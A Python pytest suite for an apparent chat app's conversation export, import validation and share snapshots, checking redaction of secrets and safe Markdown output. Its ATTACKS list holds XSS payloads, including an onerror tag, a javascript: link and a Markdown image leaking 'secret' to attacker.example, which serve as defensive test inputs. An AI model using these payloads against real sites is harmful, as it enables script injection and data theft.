"""Export to JSON and Markdown, import back, and share snapshots (pure, no database)."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chat.conversations import exports
from chat.conversations.exports import ImportProblem, parse_import
from chat.sharing import snapshot

ATTACKS = (
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](https://attacker.example/p.png?q=secret)",
    '<div hx-get="/" hx-trigger="load">',
)
SENT_AT = datetime(2025, 5, 1, 12, 0, 0, tzinfo=UTC)


def _record(pk, parent, role, batch, content, **fields):
    record = {
        "id": pk,
        "parent": parent,
        "role": role,
        "content": content,
        "reasoning": "",
        "tool_calls": None,
        "choice_index": 0,
        "batch": batch,
        "model": "kimi-k2-thinking" if role == "assistant" else "",
        "request_params": {"model": "kimi-k2-thinking", "temperature": 0.4}
        if role == "assistant"
        else {},
        "usage": None,
        "finish_reason": "stop" if role == "assistant" else "",
        "status": "complete",
        "error": "",
        "timings": {"sent_at": SENT_AT, "finished_at": None},
    }
    record.update(fields)
    return record


@pytest.fixture
def records():
    """Prompt 1 answered by two choices (2, 3) and a regeneration (5); a follow-up 4
    under choice 2; an edited prompt 6 beside prompt 1. The path ends at 4."""
    return [
        _record(1, None, "user", "u1", "What is recursion?"),
        _record(2, 1, "assistant", "a", "A function calling itself.", reasoning="Think."),
        _record(3, 1, "assistant", "a", "Self-reference.", choice_index=1),
        _record(4, 2, "user", "u4", "An example?"),
        _record(5, 1, "assistant", "b", "Regenerated."),
        _record(6, None, "user", "u6", "Edited prompt"),
    ]


@pytest.fixture
def export(records):
    return exports.export_data(
        title="Recursion",
        system_prompt="Be brief.",
        settings={"model": "kimi-k2-thinking", "temperature": 0.4, "secret_field": "x"},
        records=records,
        leaf_id=4,
    )


# --- export ------------------------------------------------------------------------


def test_the_export_holds_the_path_in_the_apis_shape(export):
    assert export["format"] == "reasoning-playground/1"
    assert export["messages"] == [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "What is recursion?"},
        {
            "role": "assistant",
            "content": "A function calling itself.",
            "reasoning_content": "Think.",
        },
        {"role": "user", "content": "An example?"},
    ]
    assert export["current_leaf"] == 4
    assert export["settings"] == {"model": "kimi-k2-thinking", "temperature": 0.4}


def test_the_export_holds_every_message_of_the_tree(export):
    assert [(m["id"], m["parent"]) for m in export["tree"]] == [
        (1, None),
        (2, 1),
        (3, 1),
        (4, 2),
        (5, 1),
        (6, None),
    ]
    first_answer = export["tree"][1]
    assert first_answer["timings"]["sent_at"] == "2025-05-01T12:00:00+00:00"
    assert first_answer["request_params"] == {"model": "kimi-k2-thinking", "temperature": 0.4}


def test_the_export_redacts_the_upstream_from_error_texts(records):
    records[1]["error"] = "Could not connect to api.secret.example:443 with sk-123."
    export = exports.export_data(
        title="t",
        system_prompt="",
        settings={},
        records=records,
        leaf_id=2,
        redact=["api.secret.example", "sk-123", ""],
    )
    text = exports.dumps(export)
    assert "api.secret.example" not in text and "sk-123" not in text
    assert "Could not connect to [upstream]:443 with [upstream]." in text


def test_the_json_text_has_no_markup_characters_and_reads_back_the_same(records):
    records[0]["content"] = " ".join(ATTACKS) + " & more"
    export = exports.export_data(
        title=ATTACKS[0], system_prompt="", settings={}, records=records, leaf_id=4
    )
    text = exports.dumps(export)
    assert not {"<", ">", "&"} & set(text)
    assert json.loads(text) == json.loads(json.dumps(export))


@pytest.mark.parametrize(
    ("text", "fence"),
    [("plain", "```"), ("has ``` inside", "````"), ("````` five", "``````")],
)
def test_code_fences_are_longer_than_any_backtick_run(text, fence):
    block = exports._fenced(text, "text")
    assert block.startswith(fence + "text\n") and block.endswith("\n" + fence + "\n")


def test_the_markdown_shows_title_prompt_turns_reasoning_and_parameters(export):
    text = exports.export_markdown(export)
    assert text.startswith("# Recursion\n")
    assert "```text\nBe brief.\n```" in text
    assert text.index("### You") < text.index("### Assistant")
    assert text.count("### You") == 2 and text.count("### Assistant") == 1
    assert "<details><summary>Reasoning</summary>\n\n```markdown\nThink.\n```\n\n</details>" in text
    assert "| Parameter sent | Value |" in text and "| temperature | 0\\.4 |" in text
    assert "Regenerated." not in text  # another branch: only in the JSON tree


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _rendered_tags(markdown_text: str) -> list[tuple[str, dict]]:
    # A permissive renderer: raw HTML on, as a naive Markdown viewer would have it.
    renderer = MarkdownIt("commonmark", {"html": True}).enable(["table"])
    parser = _Tags()
    parser.feed(renderer.render(markdown_text))
    return parser.tags


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("where", ["title", "system_prompt", "content", "reasoning", "param"])
def test_attack_strings_in_the_markdown_are_inert(records, attack, where):
    system_prompt = attack if where == "system_prompt" else ""
    if where in ("content", "reasoning"):
        records[1][where] = f"before {attack} after"
        records[0]["content"] = attack
    if where == "param":
        records[1]["request_params"] = {"stop": [attack], attack: 1}
    export = exports.export_data(
        title=attack if where == "title" else "t",
        system_prompt=system_prompt,
        settings={},
        records=records,
        leaf_id=4,
    )
    tags = _rendered_tags(exports.export_markdown(export))
    assert {tag for tag, _ in tags} <= {
        "h1", "h3", "p", "pre", "code", "details", "summary", "strong", "em",
        "table", "thead", "tbody", "tr", "th", "td",
    }  # fmt: skip
    assert all(not attrs.get("href") for _, attrs in tags)
    assert all("hx-get" not in attrs and "src" not in attrs for _, attrs in tags)


# --- import ------------------------------------------------------------------------


def test_an_export_imports_to_the_same_tree_and_path(export):
    imported = parse_import(exports.dumps(export).encode())
    assert imported.title == "Recursion" and imported.system_prompt == "Be brief."
    assert imported.settings["temperature"] == 0.4
    assert [(m["ref"], m["parent"]) for m in imported.messages] == [
        (m["id"], m["parent"]) for m in export["tree"]
    ]
    assert imported.current_leaf == 4
    again = exports.export_data(
        title=imported.title,
        system_prompt=imported.system_prompt,
        settings=imported.settings,
        records=[{**m, "id": m["ref"]} for m in imported.messages],
        leaf_id=imported.current_leaf,
    )
    assert again["messages"] == export["messages"]
    assert again["tree"] == export["tree"]


@pytest.mark.parametrize(
    ("document", "system_prompt", "chain"),
    [
        (
            [{"role": "user", "content": "Hi"}, {"role": "assistant", "content": "Hello."}],
            "",
            [("user", "Hi"), ("assistant", "Hello.")],
        ),
        (
            {
                "model": "x",
                "messages": [
                    {"role": "system", "content": "Be brief."},
                    {"role": "user", "content": [{"type": "text", "text": "Hi"}]},
                ],
            },
            "Be brief.",
            [("user", "Hi")],
        ),
        (
            [
                {"role": "user", "content": "Q"},
                {"role": "assistant", "content": None, "reasoning_content": "Hmm", "tool_calls": [
                    {"id": "c1", "type": "function", "function": {"name": "f", "arguments": "{}"}}
                ]},
            ],
            "",
            [("user", "Q"), ("assistant", "")],
        ),
    ],
)  # fmt: skip
def test_a_plain_messages_array_imports_as_a_chain(document, system_prompt, chain):
    imported = parse_import(json.dumps(document).encode())
    assert imported.system_prompt == system_prompt
    assert [(m["role"], m["content"]) for m in imported.messages] == chain
    assert [m["parent"] for m in imported.messages] == [
        None,
        *[m["ref"] for m in imported.messages][:-1],
    ]
    assert imported.current_leaf == imported.messages[-1]["ref"]


def test_a_plain_import_keeps_reasoning_and_tool_calls():
    document = [
        {"role": "user", "content": "Q"},
        {"role": "assistant", "content": "A", "reasoning_content": "Because."},
    ]
    answer = parse_import(json.dumps(document).encode()).messages[1]
    assert answer["reasoning"] == "Because." and answer["status"] == "complete"


def _export_with(**changes) -> bytes:
    item = {"id": 1, "parent": None, "role": "user", "content": "Hi"}
    item.update(changes)
    return json.dumps({"format": exports.EXPORT_FORMAT, "tree": [item]}).encode()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"not json", "The file is not valid JSON: Expecting value (line 1, column 1)."),
        (b"\xff\xfe\xfa", "The file is not text in UTF-8"),
        (b'[{"role": "user", "content": NaN}]', "The file is not valid JSON"),
        (b'{"a": 1}', "Expected a Reasoning Playground export or an OpenAI-style messages array"),
        (b"42", "Expected a Reasoning Playground export"),
        (b"[]", "The file holds no messages"),
        (b'["hi"]', "Message 1: each message must be an object with role and content."),
        (b'[{"role": "bot", "content": "x"}]', 'Message 1: role "bot" cannot be imported'),
        (b'[{"role": "tool", "content": "x"}]', 'Message 1: role "tool" cannot be imported'),
        (b'[{"content": "x"}]', "Message 1: role null cannot be imported"),
        (b'[{"role": "user", "content": 5}]', "Message 1: the content is not text"),
        (
            b'[{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "x"}}]}]',
            "Message 1: the content is not text",
        ),
        (b'[{"role": "user"}]', "Message 1: the content is not text"),
        (
            b'[{"role": "user", "content": "a"}, {"role": "system", "content": "b"}]',
            "Message 2: a system message may only come first.",
        ),
        (b'[{"role": "system", "content": "b"}]', "only a system message"),
        (
            b'[{"role": "user", "content": "a"}, {"role": "assistant", "tool_calls": [{}]}]',
            "Message 2: tool call 1 must be",
        ),
        (b'[{"role": "user", "content": "a\\u0000"}]', "NUL character"),
        (b'{"format": "other/2", "tree": []}', 'Unknown format "other/2"'),
        (b'{"format": "reasoning-playground/1"}', "The export has no tree"),
        (_export_with(parent=7), "Message 1: its parent must be a message listed before it."),
        (_export_with(id=None), "Message 1: id must be a number or text"),
        (_export_with(role="system"), 'Message 1: role "system" cannot be imported'),
        (_export_with(status="done"), "Message 1: status must be one of"),
        (_export_with(timings={"sent_at": "yesterday"}), "timings.sent_at must be an ISO 8601"),
        (_export_with(model="m" * 201), "Message 1: model must be at most 200 characters."),
        (_export_with(choice_index=-1), "Message 1: choice_index must be a whole number"),
        (_export_with(usage=[1]), "Message 1: usage must be an object."),
        (_export_with(content={"text": "x"}), "Message 1: the content is not text"),
    ],
)
def test_a_bad_file_gets_a_clear_message(data, message):
    with pytest.raises(ImportProblem) as problem:
        parse_import(data)
    assert message in str(problem.value)


def test_duplicate_ids_and_a_missing_leaf_are_refused():
    item = {"id": 1, "parent": None, "role": "user", "content": "Hi"}
    document = {"format": exports.EXPORT_FORMAT, "tree": [item, item]}
    with pytest.raises(ImportProblem, match="unique in the tree"):
        parse_import(json.dumps(document).encode())
    document = {"format": exports.EXPORT_FORMAT, "tree": [item], "current_leaf": 9}
    with pytest.raises(ImportProblem, match="current_leaf 9 is not a message of the tree"):
        parse_import(json.dumps(document).encode())


def test_a_file_over_two_megabytes_is_refused_before_parsing():
    data = b'[{"role": "user", "content": "' + b"x" * exports.MAX_IMPORT_BYTES + b'"}]'
    with pytest.raises(ImportProblem, match="larger than 2 MB"):
        parse_import(data)


def test_more_than_five_thousand_messages_are_refused():
    document = [{"role": "user", "content": "x"}] * (exports.MAX_IMPORT_MESSAGES + 1)
    with pytest.raises(ImportProblem, match="5,001 messages; at most 5,000"):
        parse_import(json.dumps(document).encode())
    assert len(parse_import(json.dumps(document[:-1]).encode()).messages) == 5_000


def test_an_imported_streaming_message_is_interrupted_and_naive_times_are_utc():
    record = parse_import(
        _export_with(role="assistant", status="streaming", timings={"sent_at": "2025-01-01T10:00"})
    ).messages[0]
    assert record["status"] == "interrupted"
    assert record["timings"]["sent_at"] == datetime(2025, 1, 1, 10, tzinfo=UTC)


def test_imported_settings_go_through_the_panels_reader():
    document = json.loads(_export_with())
    document["settings"] = {"temperature": "hot", "top_p": 0.5, "evil": "x"}
    settings = parse_import(json.dumps(document).encode()).settings
    assert settings["temperature"] is None and settings["top_p"] == 0.5 and "evil" not in settings


_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from(["role", "content", "format", "tree", "id", "parent", "messages", "x"]),
            inner,
            max_size=5,
        )
    ),
    max_leaves=20,
)


@given(st.binary(max_size=64) | _json.map(lambda v: json.dumps(v).encode()))
def test_any_input_imports_or_gets_a_message(data):
    try:
        parse_import(data)
    except ImportProblem as problem:
        assert str(problem)


# --- share snapshots ---------------------------------------------------------------


def _steps():
    answer = {
        "role": "assistant",
        "content": "Answer",
        "reasoning": "Secret thoughts",
        "status": "complete",
        "model": "kimi-k2-thinking",
        "finish_reason": "stop",
        "choice_index": 0,
        "tool_calls": None,
        "request_params": {"model": "kimi-k2-thinking", "temperature": 0.4},
        "usage": {"completion_tokens": 5},
        "upstream": "api.secret.example",
        "error": "Could not connect to api.secret.example",
        "pk": 42,
        "timings": {"sent_at": SENT_AT},
        "sent": [("Temperature", "0.4")],
        "metrics": [("Completion tokens", "5")],
    }
    second = {**answer, "content": "Other", "choice_index": 1}
    return [
        {
            "user": {"role": "user", "content": "Q", "pk": 41},
            "choices": [answer, second],
            "chosen": 1,
        },
        {"user": {"role": "user", "content": "More?"}, "choices": [], "chosen": 0},
    ]


@pytest.mark.parametrize("include_reasoning", [True, False])
def test_a_snapshot_keeps_only_what_the_page_shows(include_reasoning):
    shot = snapshot.build(
        title="T",
        system_prompt="S",
        settings={"temperature": 0.4, "api_key": "no"},
        steps=_steps(),
        include_reasoning=include_reasoning,
    )
    text = json.dumps(shot)
    assert "api.secret.example" not in text and "42" not in text and "41" not in text
    assert ("Secret thoughts" in text) is include_reasoning
    assert shot["settings"] == {"temperature": 0.4}
    answer = shot["steps"][0]["choices"][0]
    assert answer["sent"] == [["Temperature", "0.4"]]
    assert answer["timings"]["sent_at"] == "2025-05-01T12:00:00+00:00"
    assert shot["steps"][0]["user"] == {"role": "user", "content": "Q"}


def test_a_snapshot_copies_as_a_chain_through_the_chosen_answer():
    shot = json.loads(
        json.dumps(
            snapshot.build(
                title="T",
                system_prompt="S",
                settings={"temperature": 0.4},
                steps=_steps(),
                include_reasoning=True,
            )
        )
    )
    imported = snapshot.to_import(shot)
    assert [(m["ref"], m["parent"], m["batch"]) for m in imported.messages] == [
        ("u0", None, "u0"),
        ("a0.0", "u0", "b0"),
        ("a0.1", "u0", "b0"),
        ("u1", "a0.1", "u1"),
    ]
    assert imported.current_leaf == "u1"
    assert imported.settings["temperature"] == 0.4 and imported.system_prompt == "S"
    assert imported.messages[1]["timings"]["sent_at"] == SENT_AT
    assert imported.messages[1]["error"] == ""
